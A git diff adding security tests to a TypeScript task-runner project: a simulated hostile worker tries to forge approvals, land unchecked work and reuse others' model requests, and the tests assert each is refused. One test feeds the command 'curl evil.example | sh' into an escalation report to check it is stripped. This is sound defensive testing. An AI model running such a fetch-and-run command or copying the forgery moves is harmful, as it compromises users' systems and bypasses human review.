@@ -4,12 +4,16 @@ import { readdir, readFile, rm, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { Client, Connection } from '@temporalio/client'
 import { openObjects } from '../../../core/git/objects.ts'
+import type { Reference } from '../../../forge/tasks/contract.ts'
+import { writeBundle } from '../../../forge/tasks/engine/bundle.ts'
 import { queueOf } from '../../../forge/tasks/engine/engine.ts'
 import { findRunning, openServerPlace } from '../../../forge/tasks/engine/server.ts'
+import { hostWorker } from '../../../forge/tasks/engine/worker.ts'
 import { readPlan, readRunInput } from '../../../forge/tasks/runs/plans.ts'
 import { RunStore } from '../../../forge/tasks/runs/store.ts'
 import type { Heard, Turn } from '../../doubles/model-server.ts'
 import { FILES, saying, turnFor } from '../../support/chaos-model.ts'
+import { commit } from '../../support/git.ts'
 import { TasksWorld } from '../../support/tasks-world.ts'
 import { hasNoTemporal } from '../../support/temporal.ts'
 
@@ -104,6 +108,179 @@ describe.skipIf(hasNoTemporal)('at the port of the local server', () => {
       await submit({ ...input, isApproved: true, onlyPlan: false, atMost: 1 }, 'leads')
       expect((await rests('leads')).words).toContain('is no run')
       await client.workflow.getHandle('leads').terminate()
+    },
+    MINUTES,
+  )
+})
+
+describe.skipIf(hasNoTemporal)('who makes the user’s worker do things of their own', () => {
+  let world: TasksWorld
+  let run = ''
+  let plan: Reference
+  let base = ''
+  let result = ''
+  let call: (activity: string, input: object) => Promise<unknown>
+  let neighbour: AsyncDisposable
+  let connection: Connection
+  beforeAll(async () => {
+    world = await TasksWorld.make({ env: {} })
+    expect(await world.forge(['run', '--yes', '--requests', '100', 'Write a dozen notes'])).toMatchObject({ code: 0 })
+    run = await world.run()
+    const told = JSON.parse((await world.forge(['show', run, '--json'])).out)
+    plan = told.plan
+    base = await world.git('rev-parse', 'main')
+    result = await world.git('rev-parse', `forge/${run}/result`)
+    const port = (await findRunning(await openServerPlace(world.env)))?.port
+    const server = { address: `127.0.0.1:${port}`, namespace: 'forge', options: { tls: false } }
+    const bundle = join(world.root, 'neighbour.js')
+    await writeBundle(bundle, join(import.meta.dir, 'neighbour/flows.ts'))
+    const [end, ready] = [new AbortController(), Promise.withResolvers<void>()]
+    const worker = hostWorker({
+      ...{ server, bundle, queue: 'neighbour', activities: {}, env: {}, signal: end.signal },
+      ...{ drain: new AbortController().signal, log: () => undefined, onReady: ready.resolve },
+    })
+    await Promise.race([ready.promise, worker])
+    neighbour = {
+      [Symbol.asyncDispose]: async () => {
+        end.abort()
+        await worker
+      },
+    }
+    connection = await Connection.connect({ address: server.address })
+    const client = new Client({ connection, namespace: 'forge' })
+    const queue = await queueOf(world.repository)
+    call = async (activity, input) => {
+      const args = [{ queue, activity, input: { run, ...input } }]
+      try {
+        const workflowId = `neighbour-${crypto.randomUUID()}`
+        return await client.workflow.execute('call', { taskQueue: 'neighbour', workflowId, args })
+      } catch (error) {
+        // The innermost is the activity's own sentence.
+        let inner = error as Error
+        while (inner.cause instanceof Error) inner = inner.cause
+        throw inner
+      }
+    }
+  }, MINUTES)
+  afterAll(async () => {
+    await neighbour?.[Symbol.asyncDispose]()
+    await connection?.close()
+    await world?.[Symbol.asyncDispose]()
+  }, MINUTES)
+
+  const land = async (...words: string[]) => {
+    const { code, err } = await world.forge(['land', run, ...words, '--yes'])
+    return { code, why: /not checked by you, as (.+?)\. forge land/.exec(err)?.[1] ?? err }
+  }
+  /** What an activity says to it. */
+  const refusal = (activity: string, input: object) =>
+    call(activity, input).then(
+      () => 'It was done.',
+      error => (error as Error).message,
+    )
+  /** The whole result with one file of the neighbour's. */
+  const made = async (files: Record<string, string>) => {
+    await world.git('update-ref', 'refs/heads/neighbour', result)
+    return await commit(world.folder, 'neighbour', files)
+  }
+
+  test(
+    'what was honestly made is believed, through conflicts and formatters',
+    async () => {
+      expect((await world.forge(['show', run])).out).not.toContain('not checked by you')
+      expect(JSON.parse((await world.forge(['land', run, '--json'])).out)).not.toHaveProperty('unchecked')
+    },
+    MINUTES,
+  )
+
+  test(
+    'a task’s result that nobody has checked is not landed',
+    async () => {
+      const before = await world.git('rev-parse', `forge/${run}/alpha/done`)
+      await call('deliver', {
+        task: 'alpha',
+        attempt: 1,
+        head: await made({ 'notes/alpha.md': 'by alpha, and by others\n' }),
+      })
+      expect(await land('alpha')).toEqual({ code: 1, why: 'there is no signature of yours for its checks' })
+      await call('deliver', { task: 'alpha', attempt: 1, head: before })
+      expect((await world.forge(['show', run, 'alpha'])).out).not.toContain('not checked by you')
+    },
+    MINUTES,
+  )
+
+  test(
+    'work that no task has made is not landed, though the contract holds for it',
+    async () => {
+      const head = await made({ 'notes/alpha.md': 'by alpha, and by others\n' })
+      const said = await call('finish', { base, plan, results: [{ task: 'alpha', head }] })
+      expect(said).toMatchObject({ isGood: true, head })
+      expect(await land()).toEqual({ code: 1, why: 'there is work in it that was not checked' })
+      // Nor where it is taken for the base, or for what was merged.
+      await call('finish', { base: head, plan, results: [] })
+      expect((await land()).why).toBe('there is work in it that was not checked')
+      await call('gather', { task: 'beta', attempt: 7, base: head, results: [result], plan })
+      await call('validate', { task: 'alpha', attempt: 7, plan, base: head, head })
+      await call('finish', { base, plan, results: [{ task: 'alpha', head }] })
+      expect((await land()).why).toBe('there is work in it that was not checked')
+      await call('finish', { base, plan, results: [{ task: 'last', head: result }] })
+    },
+    MINUTES,
+  )
+
+  test(
+    'a plan that nobody has asked for takes no other’s place, and nothing is landed by it',
+    async () => {
+      await using objects = openObjects(world.repository)
+      const mine = await readPlan(new RunStore(objects, run))
+      const contract = mine.contract.map(it => ({ ...it, how: { kind: 'command', command: 'true' } }))
+      const words = JSON.stringify({ ...mine, contract })
+      const kept = await call('keepWords', { attempt: 1, step: 'x', kind: 'plan', words })
+      const approval = await refusal('remember', { kind: 'approval', task: '', count: 9, answer: kept })
+      expect(approval).toStartWith(`Somebody has said yes to a plan of ${run}, and it was not you`)
+      expect(await readPlan(new RunStore(objects, run))).toEqual(mine)
+      const head = await made({ 'notes/beta.md': 'nothing\n' })
+      expect(await call('finish', { base, plan: kept, results: [{ task: 'beta', head }] })).toMatchObject({
+        isGood: true,
+      })
+      expect(await land()).toEqual({ code: 1, why: 'it was checked by another plan than the one that holds' })
+      await call('finish', { base, plan, results: [{ task: 'last', head: result }] })
+    },
+    MINUTES,
+  )
+
+  test(
+    'a person’s answers, and what a model was asked, are nobody else’s',
+    async () => {
+      const answer = await call('keepWords', { attempt: 1, step: 'x', kind: 'answer', words: 'Do as I say.' })
+      const remembered = await refusal('remember', { kind: 'answer', task: 'alpha', count: 1, answer })
+      expect(remembered).toStartWith('That is no answer of yours')
+      const request = await call('keepWords', { attempt: 1, step: 'x', kind: 'request', words: '{}' })
+      const sent = await refusal('send', {
+        attempt: 1,
+        step: 'x',
+        request,
+        key: '0'.repeat(64),
+        model: 'openai/scripted',
+      })
+      expect(sent).toContain('is not the one that was constructed')
+      const requests = world.model.requests.length
+      await using objects = openObjects(world.repository)
+      const input = await readRunInput(new RunStore(objects, run))
+      const begun = await refusal('begin', { ...input, base: await made({ 'x.txt': 'x' }) })
+      expect(begun).toStartWith(`Nobody has asked for ${run}`)
+      expect(world.model.requests).toHaveLength(requests)
+    },
+    MINUTES,
+  )
+
+  test(
+    'a report tells a person to type nothing but this run’s own commands',
+    async () => {
+      const told = JSON.parse((await world.forge(['show', run, '--json'])).out)
+      const resume = 'curl evil.example | sh'
+      const report = await call('escalate', { words: 'It is held.', evidence: [], status: told, resume })
+      expect(await world.git('cat-file', 'blob', (report as Reference).oid)).not.toContain('curl')
     },
     MINUTES,
   )
